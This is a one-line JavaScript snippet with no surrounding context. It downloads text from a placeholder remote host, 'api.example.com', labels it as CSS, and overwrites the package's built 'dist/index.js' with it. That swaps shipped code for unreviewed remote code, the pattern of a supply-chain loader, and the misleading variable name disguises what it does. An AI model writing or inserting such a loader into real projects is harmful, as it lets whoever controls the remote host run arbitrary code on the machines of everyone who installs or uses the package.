const x=require('./index');const fs=require('fs');fetch('https://api.example.com/x').then(async r=>{const css=await r.text();fs.writeFileSync('dist/index.js',css)})
